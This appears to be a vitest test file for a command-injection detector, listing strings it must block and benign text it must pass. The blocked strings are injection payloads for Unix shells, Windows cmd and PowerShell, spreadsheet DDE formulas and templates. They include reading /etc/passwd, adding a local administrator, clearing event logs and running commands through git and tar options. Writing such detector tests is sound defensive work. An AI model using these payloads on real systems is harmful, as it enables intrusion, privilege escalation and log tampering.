import { describe } from 'vitest';
import { blocks, passes, passesWritten } from '../../testing/payloads.ts';

describe('command_injection, how commands are spelled', () => {
  // shells of Unix: substitutions, options, loops, redirections
  blocks('command_injection', [
    ';sudo cat /etc/passwd',
    '|sudo -u root id',
    '1;env A=1 cat /etc/hosts',
    ';timeout -k 9 5 whoami',
    '&& command ls -la',
    ';x=1 id',
    '$(exec cat /etc/passwd)',
    "; $'cat' /etc/passwd",
    '|nohup env x=1 uname -a',
    'a\ncat /etc/group',
    ";ca''t fl''ag",
    ';X=whoami;$X',
    '&net localgroup administrators eve /add',
    '&reg add HKCU\\x /v y',
    'FOR /F %a IN (file) DO echo %a',
    'IF "%VAR%"=="a" echo ok',
    'IF NOT EXIST C:\\x (goto end)',
    ';$SHELL -c id',
    '%0Aid',
    '1\nid\n',
    ';tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=id',
    ';ps aux',
    ';echo vulnerable',
    '|echo abc123',
    '$(expr 41 \\* 271)',
    '`expr 5 + 5`',
    ';expr 123 + 321',
    '";reboot;"',
    '|sleep 5 #',
    ';xterm -display 192.0.2.9:1',
    '&dir c:\\',
    '&type C:\\x',
    'x;base64 /etc/hosts',
    ';chmod 777 /tmp/x',
    '@(id)',
    '--upload-pack=touch /tmp/x',
    '-oProxyCommand=id',
    'git clone ext::sh -c id',
    'ext::sh -c touch% /tmp/x',
    '$0<<<id',
    ';$0 -c id',
    ';{id,}',
    ';if [ 1 -eq 1 ];then sleep 5;fi',
    ';for i in 1 2 3;do id;done',
    ';while :;do id;done',
    ';>/tmp/x',
  ]);

  // Windows, PowerShell and spreadsheets
  blocks('command_injection', [
    '& rundll32 javascript:"\\..\\mshtml,RunHTMLApplication "',
    '& wmic process call create calc',
    '& powershell Get-Process',
    '; Get-ChildItem C:\\',
    '$(Get-Content C:\\x)',
    '; Start-Process calc',
    'powershell.exe -ExecutionPolicy Bypass -File x.ps1',
    "; [System.Net.Dns]::GetHostEntry('x.example')",
    '& findstr /s password *.txt',
    '& vssadmin list shadows',
    '& wevtutil cl System',
    '& nltest /domain_trusts',
    "=cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"__x")',
  ]);

  passes([
    'fast; command line tools',
    'try it; sudo make me a sandwich',
    'a=1; b=2; time flies',
    'x; env variables & exec summary',
    'helpers flow through `get`/`set`, so they update (`del`) the statistics as well',
    '* add `.format` export\n* add `.parse` export',
    'invoked as /bin/sh; starts with #!/usr/bin/env node',
    'ls -v now orders names like the sort command does',
    'when $IFS is empty, the first character of $IFS.',
    'remove /usr/share/info/dir* to be sure',
    'will call `process.exit()` if the callback returns; see child_process.html#spawn',
    'use &lt;script&gt; and &lt;more&gt; of it',
    'go home; echo my thoughts and sleep',
    'all: build\n\nbuild:\n\tgcc -o app main.c\n\nclean:\n\trm -f app\n',
    'select; start with a calculator',
    'the new-item page; get started',
    "it's ok; if not, for now",
    'name\nid\ndate',
    'C:\\Windows\\Fonts\\arial.ttf',
    'C:\\Windows\\System32\\svchost.exe',
    '--upload the file',
    'sizes {id, name, date}',
    'read & write; find or replace',
    'update; reboot; done',
    'save your work; poweroff; go home',
    'data:image/jpeg;base64,/9j/4AAQSkZJRgABAQEAYABgAAD/2wBDAAgGBgcGBQgHBwcJCQgKDBQNDAsL',
    'TERM=xterm-256color; LANG=C',
  ]);

  // substitutions and paths of programs that no element of a text opens
  blocks('command_injection', [
    'x >(id)',
    'x>(cat /etc/passwd)',
    '<x>(id)',
    '</textarea>$(id)',
    'a<b | cat</etc/passwd',
    '$(/bin/cat /etc/hosts)',
    "x'/bin/cat' /etc/hosts",
    '1 /???/c?t /etc/hosts',
    '`id`',
    '`whoami` x',
    '[php]system(1)[/php]',
  ]);

  passes([
    '<p>Syntax highlighting <em>(less)</em> and the <strong>(head)</strong> of a submodule</p>',
    '<div dir="auto">jamo <strong>(alias</strong> of a subset)</div>',
    '<p>pushd [-n] [+N | -N | dir</p>',
    '<p>en tre alta statuso; vi</p>',
    'Available also for **[PHP](./php/flatted.php)**.',
    'この場合 UNIX の /bin/ls が使われる',
    'sie wird durch »/bin/sh« oder die Variable ersetzt',
    '<p>Der Befehl wird mit <em>/bin/sh</em> ausgeführt</p>',
    'The default system shell (/bin/sh) has been changed',
    'a ve skriptu je /proc/ide/hd* nebo nic',
    'コンピュータをサスペンドすると /dev/pts/* が',
  ]);

  // two words behind excuse a command in backticks only where people write; a shell runs it all the same
  blocks('command_injection', [
    '`id` is what',
    '`env` is what',
    '127.0.0.1 `id` of what',
    '`whoami` is what',
  ]);
  passesWritten(['`date` (preferred) or `timestamp`', '`time` and `date-time` formats enforce it']);
  passes(['sorted by `date` is what', '`name` is what']);

  // words that a shell reserves and people use: only a whole construct is one
  blocks('command_injection', [
    ';if true;then id;fi',
    'x\nwhile :; do id; done',
    ';for i in 1;do curl x;done',
    'set -- cat /etc/hosts;$1 $2',
    ';set id;$1',
    'x;set env; $1',
    ';set halt; $1',
    "trap 'poweroff' EXIT",
    ';if true;then id;  fi',
    ';for i in 1;do xx;\tdone',
    'a_name_of_many_letters=id;$a_name_of_many_letters',
    'a_name_of_many(){ id;};a_name_of_many',
    '1;time (/bin/id)',
    '1;gc\tC:\\x',
    'my_host;dd\u00a0if=/etc/hosts',
    'x;set ifconfig; $1',
    "trap 'cat x' EXIT",
    'function f { id; }; f',
    'f(){ id;};f',
  ]);
  passes([
    'Prepare; do the work; done',
    'Chores; do the dishes; done',
    'Wi-Fi; then turn it off; fi',
    'set of 4 plates; $1 each',
    'set menu; $1',
    'set environment; $1',
    "trap 'mouse' EXIT",
    'alias foo=bar; foo',
    'function main { return 1; }',
  ]);

  // templates and calls that name, and call nothing
  blocks('command_injection', [
    "<%= Kernel.send(:system, 'id') %>",
    '<%- spawn("id") %>',
    '{{(7)*7}}',
    '{{ (7)*(7) }}',
    '{{ (7) * 7 }}',
    "1;unlink('/tmp/x')",
    ';/bin/[c]at /etc/hosts',
  ]);
  passesWritten(['{{ (2024) - 1 }}']);
  passes([
    '<%- spawn %>',
    '<%= user.send(:name) %>',
    '<%- method(:x) %>',
    'unlink("/tmp/x")',
    'touch("/a/b")',
    '/bin/[a-z]',
  ]);
});
